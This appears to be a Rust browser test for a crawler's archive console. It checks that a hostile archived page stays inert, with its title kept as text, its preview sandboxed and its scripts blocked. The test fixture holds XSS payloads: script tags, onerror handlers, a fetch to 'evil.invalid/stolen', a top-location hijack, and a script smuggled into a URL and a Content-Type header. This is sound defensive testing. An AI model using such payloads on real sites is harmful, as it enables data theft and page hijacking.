@@ -1,0 +1,76 @@
+//! An archived page that tries to run: its title stays text, its preview runs and loads nothing; and the console of a
+//! directory in which no crawl runs.
+
+use std::time::Instant;
+
+use super::{Open, chromium, click};
+use crate::site::{Crawl, PATIENCE, RUSH};
+use crate::warc::server::{Answer, serve};
+use serde_json::{Value, json};
+
+const EVIL: &str = "<!doctype html><title><script>document.body.dataset.ran = 1</script> &amp; a title</title>\
+    <body><h1>Evil</h1><script>document.body.dataset.ran = 1; fetch('http://evil.invalid/stolen');\
+    parent.document.title = 'owned'; top.location = 'http://evil.invalid/gone'</script>\
+    <img src='http://evil.invalid/p.png' onerror='document.body.dataset.ran = 1'>\
+    <meta http-equiv='refresh' content='0; url=http://evil.invalid/refresh'>\
+    <iframe src='http://evil.invalid/frame'></iframe><link rel=stylesheet href='http://evil.invalid/s.css'>\
+    <style>body { background: url(http://evil.invalid/b.png) }</style><a href='/other' autofocus>link</a>";
+
+/// The document of a frame, as it is after its scripts, if they ran.
+fn document(browser: &mut chromium::Browser, session: &str) -> Option<String> {
+    let root = browser.try_call("DOM.getDocument", &json!({ "depth": -1 }), session).ok()?;
+    let node = json!({ "nodeId": root["root"]["nodeId"] });
+    let html: Value = browser.try_call("DOM.getOuterHTML", &node, session).ok()?;
+    Some(html["outerHTML"].as_str()?.to_owned())
+}
+
+#[test]
+fn a_hostile_page_stays_text_and_its_preview_runs_nothing() {
+    let Some(mut browser) = chromium::start() else { return };
+    let typed = Answer { content_type: "text/html; x=<img/src=x/onerror=alert(1)>", ..Answer::html("typed") };
+    let answers =
+        vec![("/evil?q=<script>alert(1)</script>".to_owned(), Answer::html(EVIL)), ("/typed".to_owned(), typed)];
+    let escaped = ("/evil?q=%3Cscript%3Ealert(1)%3C/script%3E".to_owned(), Answer::html(EVIL));
+    let port = serve(answers.into_iter().chain([escaped]).collect());
+    let scope = "[scope]\nmode = \"host\"\nrequisites = \"scope\"\n[network]\nallow = [\"127.0.0.0/8\"]\n";
+    let crawl = Crawl::new(&format!("http://127.0.0.1:{port}/"), &format!("[politeness]\n{RUSH}{scope}"));
+    crawl.run(&[]).expect(0, &[]);
+    let evil = crawl.stored().into_keys().find(|url| url.contains("/evil")).unwrap();
+
+    let console = Open::directory(&crawl);
+    browser.open(&console.url);
+    browser.until("document.getElementById('phase').innerText === 'Not running'");
+    assert_eq!(browser.value("document.getElementById('controls').checkVisibility()"), false);
+    browser.until("document.getElementById('figure-pages').value > 2");
+    browser.value("document.getElementById('ask-url').focus()");
+    browser.write(&evil);
+    browser.press("Enter");
+    browser.until("document.querySelector('.versions button[aria-pressed=true]') && document.querySelector('iframe')");
+    assert_eq!(browser.text("document.getElementById('explained').innerText"), evil);
+    assert!(browser.text("document.querySelector('.verdict').innerText").to_lowercase().contains("fetched"));
+    assert_eq!(browser.value("document.querySelector('iframe').getAttribute('sandbox')"), "");
+
+    // the frame has a session of its own once it is there
+    let start = Instant::now();
+    let html = loop {
+        assert!(start.elapsed() < PATIENCE, "no frame: {:?}", browser.heard);
+        browser.value("0");
+        let frames = browser.heard.frames.clone();
+        let found = frames.iter().find_map(|frame| document(&mut browser, frame)).filter(|html| html.contains("Evil"));
+        if let Some(html) = found {
+            break html;
+        }
+    };
+    assert!(html.contains("dataset.ran = 1") && !html.contains("data-ran"), "{html}");
+    for tab in ["requests", "seeds", "hosts", "tree", "explain"] {
+        click(&mut browser, &format!("tab-{tab}"));
+        browser.until(&format!("document.querySelector('#panel-{tab} :is(td, [role=treeitem], .verdict, .note)')"));
+        let foreign =
+            "document.querySelectorAll('main script, main img, main [onerror], iframe:not([sandbox=\"\"])').length";
+        assert_eq!(browser.value(foreign), 0, "{tab}");
+    }
+    assert!(browser.text("document.title").contains("crawler"));
+    browser.assert_quiet(&console.origin());
+    let blocked = browser.heard.frame_problems.iter().any(|problem| problem.contains("script"));
+    assert!(blocked, "nothing tried to run: {:?}", browser.heard.frame_problems);
+}
